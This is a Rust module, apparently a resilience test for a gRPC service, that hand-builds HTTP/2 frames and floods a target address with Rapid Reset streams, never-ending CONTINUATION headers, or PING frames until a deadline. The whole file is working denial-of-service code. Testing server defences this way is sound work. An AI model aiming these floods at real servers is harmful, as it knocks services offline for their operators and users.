//! HTTP/2 as a hostile client speaks it: frames by hand, as many as go out, whatever comes back.

use std::io;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::Instant,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// Frames of one write.
const BATCH: u32 = 100;

/// What is sent without end.
#[derive(Debug, Clone, Copy)]
pub(super) enum Flood {
    /// Calls that are taken back at once.
    RapidReset,
    /// Headers that never end.
    Continuation,
    Ping,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call, without compression (HPACK, RFC 7541).
fn call_headers(path: &str) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` by their numbers.
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(&[0x04][..], path), (&[0x01], "attack"), (&[0x0f, 0x10], "application/grpc")] {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap_or(126));
        block.extend(value.as_bytes());
    }
    block
}

/// Sends it over one connection, and over another when that is cut, until then; gives the number of frames.
pub(super) async fn flood(address: &str, flood: Flood, until: Instant) -> u64 {
    let mut frames = 0;
    while Instant::now() < until {
        // The server cuts it: that is what it should do.
        let _ = tokio::time::timeout_at(until, one_connection(address, flood, &mut frames)).await;
    }
    frames
}

async fn one_connection(address: &str, flood: Flood, frames: &mut u64) -> io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let (mut reader, mut writer) = stream.into_split();
    // What comes back is read, so that nothing stops for it.
    let reading = tokio::spawn(async move {
        let mut buffer = vec![0; 16 * 1024];
        while matches!(reader.read(&mut buffer).await, Ok(1..)) {}
    });
    writer.write_all(PREFACE).await?;
    writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let headers = call_headers("/shipei.event.v1.EventFeed/GetHead");
    let mut stream_id = 1;
    if let Flood::Continuation = flood {
        writer.write_all(&frame(HEADERS, 0, stream_id, &headers)).await?;
    }
    loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            match flood {
                Flood::RapidReset => {
                    batch.extend(frame(HEADERS, END_HEADERS, stream_id, &headers));
                    batch.extend(frame(RST_STREAM, 0, stream_id, &8_u32.to_be_bytes()));
                    stream_id += 2;
                }
                Flood::Continuation => batch.extend(frame(CONTINUATION, 0, stream_id, b"\x00\x01a\x01b")),
                Flood::Ping => batch.extend(frame(PING, 0, 0, &[7; 8])),
            }
        }
        if writer.write_all(&batch).await.is_err() || reading.is_finished() {
            reading.abort();
            return Ok(());
        }
        *frames += u64::from(BATCH);
    }
}
